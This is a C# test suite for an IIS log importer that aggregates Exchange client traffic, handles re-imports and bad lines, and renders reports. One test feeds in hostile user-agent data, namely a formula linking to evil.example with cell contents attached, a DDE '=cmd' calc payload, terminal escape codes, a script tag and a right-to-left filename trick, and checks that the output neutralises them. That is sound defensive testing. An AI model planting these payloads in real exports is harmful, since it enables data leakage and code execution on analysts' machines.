using System.Globalization;
using System.Text;
using Dapper;
using ReportJob.Cli;
using ReportJob.IisLogs;
using ReportJob.Sites;
using ReportJob.Storage;
using ReportJob.Tests.TestSupport;

namespace ReportJob.Tests.IisLogs;

public sealed class IisLogImporterTests
{
    private static readonly DateOnly Day = new(2026, 11, 20);

    private static Task<TestDatabase> CreateAsync(StorageProvider provider, Dictionary<string, string?>? settings = null) =>
        TestDatabase.CreateAsync(provider, settings);

    [Theory]
    [ProviderData(StorageProvider.Sqlite)]
    [ProviderData(StorageProvider.Postgres)]
    public async Task Import_RealIisLog_AggregatedPerClient(StorageProvider provider)
    {
        await using var db = await CreateAsync(provider);
        var path = IisLogSamples.Write(db.Directory, "u_ex261120.log", IisLogSamples.DayOne);

        var result = await db.Get<IisLogImporter>().ImportAsync(path, default);

        Assert.Equal(IisImportStatus.Imported, result.Status);
        Assert.Equal(15, result.Records);
        Assert.Equal(0, result.BadLines);
        var clients = await db.Get<IisQueries>().TopClientsAsync(Day, 50, default);
        Assert.Equal(["10.2.1.15", "10.3.0.7", "2001:db8:10::25", "10.0.0.5", "10.0.0.50", "10.4.0.9", "192.168.0.2"], clients.Select(c => c.Client));

        var outlook = clients[0];
        Assert.Equal(7, outlook.Requests);
        Assert.Equal([new IisCount("MAPI/HTTP", 3), new IisCount("EWS", 2), new IisCount("Autodiscover", 1), new IisCount("OAB", 1)], outlook.Protocols);
        Assert.Equal(new IisCount("Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)", 4), outlook.UserAgents[0]);
        Assert.Equal(4, outlook.UserAgents.Count);
        Assert.Equal(2, outlook.DistinctUsers);
        Assert.Equal([new IisCount("contoso\\jdoe", 5), new IisCount("svc-crm@contoso.com", 1)], outlook.Users);
        Assert.Equal((0L, 0L, 1L), (outlook.Status401, outlook.Status403, outlook.Status5xx));
        Assert.Equal((1300L, 500L), (outlook.BytesSent, outlook.BytesReceived));

        var phone = clients.Single(c => c.Client == "2001:db8:10::25");
        Assert.Equal([new IisCount("ActiveSync", 2)], phone.Protocols);
        Assert.Equal(1, phone.Status401);
        Assert.Equal(1, phone.DistinctUsers);
        Assert.Null(phone.BytesSent);

        var browser = clients.Single(c => c.Client == "10.3.0.7");
        Assert.Equal([new IisCount("ECP", 1), new IisCount("OWA", 1)], browser.Protocols);
        Assert.Equal(1, browser.Status403);
        Assert.Equal(0, browser.DistinctUsers);

        var protocols = await db.Get<IisQueries>().ProtocolsAsync(Day, default);
        Assert.Contains(protocols, p => p.Protocol == IisProtocol.MapiHttp && p.Clients == 2 && p.Requests == 4);
        Assert.Contains(protocols, p => p.Protocol == IisProtocol.RpcHttp && p.Clients == 1 && p.Requests == 1);
        Assert.Contains(protocols, p => p.Protocol == IisProtocol.PowerShell && p.Clients == 1);
        Assert.Contains(protocols, p => p.Protocol == IisProtocol.Other && p.Clients == 1);
        Assert.Equal(15, protocols.Sum(p => p.Requests));
        Assert.Equal([Day], await db.Get<IisQueries>().DaysAsync(default));
    }

    [Theory]
    [ProviderData(StorageProvider.Sqlite)]
    [ProviderData(StorageProvider.Postgres)]
    public async Task Import_SameLogAgainPlainOrGzipped_CountedOnce(StorageProvider provider)
    {
        await using var db = await CreateAsync(provider);
        var importer = db.Get<IisLogImporter>();
        var plain = IisLogSamples.Write(db.Directory, "u_ex261120.log", IisLogSamples.DayOne, bom: true);
        Directory.CreateDirectory(Path.Combine(db.Directory, "copy"));
        var gzipped = IisLogSamples.Write(Path.Combine(db.Directory, "copy"), "u_ex261120.log.gz", IisLogSamples.DayOne, bom: true, gzip: true);

        Assert.Equal(IisImportStatus.Imported, (await importer.ImportAsync(gzipped, default)).Status);
        Assert.Equal(IisImportStatus.UpToDate, (await importer.ImportAsync(plain, default)).Status);
        Assert.Equal(IisImportStatus.UpToDate, (await importer.ImportAsync(gzipped, default)).Status);

        Assert.Equal(15, await TotalRequestsAsync(db));
        await using var c = await db.Get<IDbConnectionFactory>().OpenAsync(default);
        Assert.Equal(1, await c.ExecuteScalarAsync<int>("SELECT COUNT(*) FROM ingest_ledger WHERE kind = 'iis'"));
    }

    [Theory]
    [ProviderData(StorageProvider.Sqlite)]
    [ProviderData(StorageProvider.Postgres)]
    public async Task Import_LogThatGrew_OnlyNewLinesCounted(StorageProvider provider)
    {
        await using var db = await CreateAsync(provider);
        var importer = db.Get<IisLogImporter>();
        var full = IisLogSamples.DayOne;
        // Cut inside a line, as when IIS has flushed half of it.
        var cut = full.IndexOf("/owa/", StringComparison.Ordinal);
        var path = IisLogSamples.Write(db.Directory, "u_ex261120.log", full[..cut]);

        var first = await importer.ImportAsync(path, default);
        Assert.Equal(IisImportStatus.Imported, first.Status);
        Assert.Equal(5, first.Records);
        Assert.True(first.PendingBytes > 0);

        IisLogSamples.Write(db.Directory, "u_ex261120.log", full);
        var second = await importer.ImportAsync(path, default);

        Assert.Equal(IisImportStatus.Imported, second.Status);
        Assert.Equal(first.ContentBytes, second.StartOffset);
        Assert.Equal(10, second.Records);
        Assert.Equal(IisImportStatus.UpToDate, (await importer.ImportAsync(path, default)).Status);
        // An older copy of the same log counts nothing.
        var older = IisLogSamples.Write(db.Directory, "older.log", full[..cut]);
        Assert.Equal(IisImportStatus.UpToDate, (await importer.ImportAsync(older, default)).Status);
        Assert.Equal(15, await TotalRequestsAsync(db));
        var clients = await db.Get<IisQueries>().TopClientsAsync(Day, 50, default);
        Assert.Equal(7, clients.Single(c => c.Client == "10.2.1.15").Requests);
        Assert.Equal(1300, clients.Single(c => c.Client == "10.2.1.15").BytesSent);
    }

    [Theory]
    [ProviderData(StorageProvider.Sqlite)]
    [ProviderData(StorageProvider.Postgres)]
    public async Task Import_CountedPartChanged_RefusedAndNothingStored(StorageProvider provider)
    {
        await using var db = await CreateAsync(provider);
        var importer = db.Get<IisLogImporter>();
        var path = IisLogSamples.Write(db.Directory, "u_ex261120.log", IisLogSamples.DayOne);
        await importer.ImportAsync(path, default);
        IisLogSamples.Write(db.Directory, "u_ex261120.log", IisLogSamples.DayOne.Replace("F5-Probe", "F6-Probe", StringComparison.Ordinal) + IisLogSamples.DayOne[^200..]);

        var error = await Assert.ThrowsAsync<InvalidDataException>(() => importer.ImportAsync(path, default));

        Assert.Contains("have changed", error.Message, StringComparison.Ordinal);
        Assert.Equal(15, await TotalRequestsAsync(db));
    }

    [Theory]
    [ProviderData(StorageProvider.Sqlite)]
    [ProviderData(StorageProvider.Postgres)]
    public async Task Import_BadLines_CountedWithFileAndLineNumber(StorageProvider provider)
    {
        await using var db = await CreateAsync(provider);
        var log = IisLogSamples.Lines(
            "2026-11-20 00:00:00 this line comes before the header",
            "#Fields: date time c-ip cs-uri-stem cs-username cs(User-Agent) sc-status",
            "2026-11-20 00:00:01 10.1.1.1 /owa/ - UA 200",
            "2026-11-20 00:00:02 not-an-ip /owa/ - UA 200",
            "2026-11-20 00:00:03 10.1.1.1 /owa/ - UA",
            "2026-11-20 00:00:04 10.1.1.1 /owa/ - UA 2OO",
            "",
            "2026-11-20 00:00:05 10.1.1.1 /owa/ - UA 200");
        var path = IisLogSamples.Write(db.Directory, "bad.log", log);

        var result = await db.Get<IisLogImporter>().ImportAsync(path, default);

        Assert.Equal(2, result.Records);
        Assert.Equal(4, result.BadLines);
        Assert.Equal([1L, 4L, 5L, 6L], result.BadLineSamples.Select(b => b.Line));
        Assert.All(result.BadLineSamples, b => Assert.Equal(path, b.File));
        Assert.Contains("c-ip", result.BadLineSamples[1].Reason, StringComparison.Ordinal);
        Assert.StartsWith(path + ":5: ", result.BadLineSamples[2].ToString(), StringComparison.Ordinal);
    }

    [Theory]
    [ProviderData(StorageProvider.Sqlite)]
    [ProviderData(StorageProvider.Postgres)]
    public async Task Import_PreferForwardedFor_ClientFromHeader(StorageProvider provider)
    {
        // The sample's load balancer (c-ip) lists itself after the client; bound from configuration as a list.
        await using var db = await CreateAsync(provider, new() { ["IisLogs:PreferForwardedFor"] = "true", ["IisLogs:TrustedProxies:0"] = "192.168.0.0/30" });
        var path = IisLogSamples.Write(db.Directory, "u_ex261120.log", IisLogSamples.DayOne);

        await db.Get<IisLogImporter>().ImportAsync(path, default);

        var clients = await db.Get<IisQueries>().TopClientsAsync(Day, 50, default);
        Assert.Contains(clients, c => c.Client == "10.5.0.20" && c.Users.Single().Name == "contoso\\bob");
        Assert.DoesNotContain(clients, c => c.Client == "192.168.0.2");
    }

    [Theory]
    [ProviderData(StorageProvider.Sqlite)]
    [ProviderData(StorageProvider.Postgres)]
    public async Task Import_MoreClientsThanFlushThreshold_AllCounted(StorageProvider provider)
    {
        await using var db = await CreateAsync(provider, new() { ["IisLogs:FlushThreshold"] = "1000", ["IisLogs:TopUserAgents"] = "1" });
        // Long query strings: the file spans several read buffers, so flushes happen between them.
        var query = new string('q', 400);
        var lines = new List<string> { "#Fields: date time c-ip cs-uri-stem cs-uri-query cs-username cs(User-Agent) sc-status sc-bytes" };
        for (var i = 0; i < 2500; i++)
        {
            // Each client twice, far apart: the second visit lands after a flush, in another batch.
            lines.Add(string.Create(CultureInfo.InvariantCulture, $"2026-11-20 01:00:00 10.{i / 250}.{i % 250}.1 /EWS/Exchange.asmx {query} user{i} agent-a 200 10"));
        }

        for (var i = 0; i < 2500; i++)
        {
            lines.Add(string.Create(CultureInfo.InvariantCulture, $"2026-11-20 02:00:00 10.{i / 250}.{i % 250}.1 /mapi/emsmdb/ {query} user{i} agent-b 200 5"));
        }

        var path = IisLogSamples.Write(db.Directory, "many.log", IisLogSamples.Lines([.. lines]));

        var result = await db.Get<IisLogImporter>().ImportAsync(path, default);

        Assert.Equal(5000, result.Records);
        Assert.Equal(5000, await TotalRequestsAsync(db));
        var one = (await db.Get<IisQueries>().ClientsAsync(Day, ["10.3.17.1"], default)).Single();
        Assert.Equal(2, one.Requests);
        Assert.Equal(15, one.BytesSent);
        Assert.Equal(1, one.DistinctUsers);
        Assert.Single(one.UserAgents);
        Assert.Equal(1, one.OtherUserAgentRequests);
    }

    [Theory]
    [ProviderData(StorageProvider.Sqlite)]
    [ProviderData(StorageProvider.Postgres)]
    public async Task Sites_ClientsMappedBySubnet(StorageProvider provider)
    {
        await using var db = await CreateAsync(provider);
        var csv = Path.Combine(db.Directory, "sites.csv");
        await File.WriteAllTextAsync(csv, "subnet,site\n10.2.1.0/24,Berlin\n2001:db8:10::/48,Berlin\n10.3.0.0/16,Paris\n");
        await db.Get<SiteStore>().ImportAsync(csv, default);
        await db.Get<IisLogImporter>().ImportAsync(IisLogSamples.Write(db.Directory, "u_ex261120.log", IisLogSamples.DayOne), default);

        var sites = await db.Get<IisQueries>().SitesAsync(Day, default);

        var berlin = sites.Single(s => s.Site == "Berlin");
        Assert.Equal((2L, 9L, 3L, 1L, 1L), (berlin.Clients, berlin.Requests, berlin.DistinctUsers, berlin.Status401, berlin.Status5xx));
        Assert.Contains(new IisCount("ActiveSync", 2), berlin.Protocols);
        Assert.Equal(2, sites.Single(s => s.Site == "Paris").Requests);
        Assert.Equal(4, sites.Single(s => s.Site == SiteMap.Unknown).Clients);
        Assert.Equal("Berlin", (await db.Get<IisQueries>().TopClientsAsync(Day, 1, default)).Single().Site);
    }

    [Theory]
    [ProviderData(StorageProvider.Sqlite)]
    [ProviderData(StorageProvider.Postgres)]
    public async Task Inbox_GoodAndBrokenFiles_MovedToDoneAndFailed(StorageProvider provider)
    {
        await using var db = await CreateAsync(provider, new() { ["IisLogs:InboxSettleTime"] = "00:00:00" });
        var inbox = db.Get<Microsoft.Extensions.Options.IOptions<IisLogsOptions>>().Value.InboxPath = Path.Combine(db.Directory, "inbox");
        Directory.CreateDirectory(inbox);
        IisLogSamples.Write(inbox, "u_ex261120.log", IisLogSamples.DayOne);
        await File.WriteAllBytesAsync(Path.Combine(inbox, "u_ex261121.log.gz"), [0x1F, 0x8B, 0x08, 0, 0, 0, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF]);
        await File.WriteAllTextAsync(Path.Combine(inbox, "notes.txt"), "not a log");

        var result = await db.Get<IisLogInbox>().ProcessAsync(default);

        Assert.Equal(IisImportStatus.Imported, result.Files.Single().Status);
        Assert.True(File.Exists(Path.Combine(inbox, "done", "u_ex261120.log")));
        Assert.True(File.Exists(Path.Combine(inbox, "failed", "u_ex261121.log.gz")));
        Assert.False(string.IsNullOrWhiteSpace(await File.ReadAllTextAsync(Path.Combine(inbox, "failed", "u_ex261121.log.gz.reason"))));
        Assert.True(File.Exists(Path.Combine(inbox, "notes.txt")));
        Assert.Equal(15, await TotalRequestsAsync(db));
    }

    [Theory]
    [ProviderData(StorageProvider.Sqlite)]
    [ProviderData(StorageProvider.Postgres)]
    public async Task Top_HostileUserAgent_ShownHarmlessly(StorageProvider provider)
    {
        await using var db = await CreateAsync(provider);
        var hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")+\u001b]0;owned\u0007\u001b[2J<script>alert(1)</script>\u202Efdp.exe";
        var log = IisLogSamples.Lines(
            "#Fields: date time c-ip cs-uri-stem cs-username cs(User-Agent) sc-status",
            $"2026-11-20 00:00:01 198.51.100.66 /owa/ -@evil {hostile.Replace(' ', '+')} 200",
            $"2026-11-20 00:00:02 198.51.100.66 /owa/ =cmd|'/C+calc'!A0 {new string('A', 3000)} 200");
        await db.Get<IisLogImporter>().ImportAsync(IisLogSamples.Write(db.Directory, "evil.log", log), default);
        var clients = await db.Get<IisQueries>().TopClientsAsync(Day, 10, default);
        var stored = clients.Single().UserAgents.Select(a => a.Name).ToList();
        Assert.All(stored, a => Assert.DoesNotContain(a, ch => SafeText.IsUnsafe(ch)));
        Assert.Contains(stored, a => a.Length == 400 && a.EndsWith('…'));

        // The rows go through the same path as 'reportjob iis top --by client': IisTables, then the shared OutputWriter.
        string Render(OutputFormat format)
        {
            var writer = new StringWriter(CultureInfo.InvariantCulture);
            OutputWriter.Write(writer, IisTables.Clients(clients, format), format);
            return writer.ToString();
        }

        foreach (var output in new[] { Render(OutputFormat.Table), Render(OutputFormat.Csv), Render(OutputFormat.Json) })
        {
            Assert.DoesNotContain('\u001b', output);
            Assert.DoesNotContain('\u0007', output);
            Assert.DoesNotContain('\u202E', output);
        }

        var table = Render(OutputFormat.Table).Split(Environment.NewLine);
        Assert.Contains(table, line => line.Contains("=HYPERLINK(", StringComparison.Ordinal) && line.Contains('…'));
        Assert.All(table, line => Assert.True(line.Length < 200, line));

        var csv = Render(OutputFormat.Csv).Split(Environment.NewLine);
        Assert.Equal("\"client\",\"site\",\"requests\",\"protocols\",\"distinct_users\",\"users\",\"top_user_agent\",\"user_agents\",\"other_user_agent_requests\",\"status_401\",\"status_403\",\"status_5xx\",\"bytes_sent\",\"bytes_received\"", csv[0]);
        var cells = ParseCsvLine(csv[1]);
        Assert.Equal(14, cells.Count);
        Assert.All(cells, cell => Assert.DoesNotMatch("^[=+\\-@]", cell));
        Assert.Contains(cells, cell => cell.StartsWith("'=HYPERLINK(", StringComparison.Ordinal));
        Assert.Contains(cells, cell => cell.Contains("'-@evil", StringComparison.Ordinal) || cell.StartsWith("'=cmd", StringComparison.Ordinal));

        var json = Render(OutputFormat.Json);
        Assert.DoesNotContain("<script>", json, StringComparison.Ordinal);
        Assert.DoesNotContain('<', json);
        Assert.DoesNotContain('>', json);
        Assert.Contains("\\u003Cscript\\u003E", json, StringComparison.Ordinal);
        using var parsed = System.Text.Json.JsonDocument.Parse(json);
        var row = parsed.RootElement[0];
        Assert.StartsWith("=HYPERLINK(", row.GetProperty("user_agents").GetString(), StringComparison.Ordinal);
        Assert.Contains("<script>alert(1)</script>", row.GetProperty("user_agents").GetString(), StringComparison.Ordinal);
        Assert.All(row.EnumerateObject(), p => Assert.True(p.Value.ValueKind != System.Text.Json.JsonValueKind.String || !p.Value.GetString()!.Any(SafeText.IsUnsafe), p.Name));
    }

    /// <summary>Requests stored, over every day and client.</summary>
    internal static async Task<long> TotalRequestsAsync(TestDatabase db)
    {
        await using var c = await db.Get<IDbConnectionFactory>().OpenAsync(default);
        return await c.ExecuteScalarAsync<long>("SELECT COALESCE(SUM(requests), 0) FROM iis_client_day");
    }

    /// <summary>RFC 4180 fields of one line.</summary>
    private static List<string> ParseCsvLine(string line)
    {
        var cells = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var ch = line[i];
            if (quoted)
            {
                if (ch == '"' && i + 1 < line.Length && line[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (ch == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(ch);
                }
            }
            else if (ch == '"')
            {
                quoted = true;
            }
            else if (ch == ',')
            {
                cells.Add(cell.ToString());
                cell.Clear();
            }
            else
            {
                cell.Append(ch);
            }
        }

        cells.Add(cell.ToString());
        return cells;
    }
}
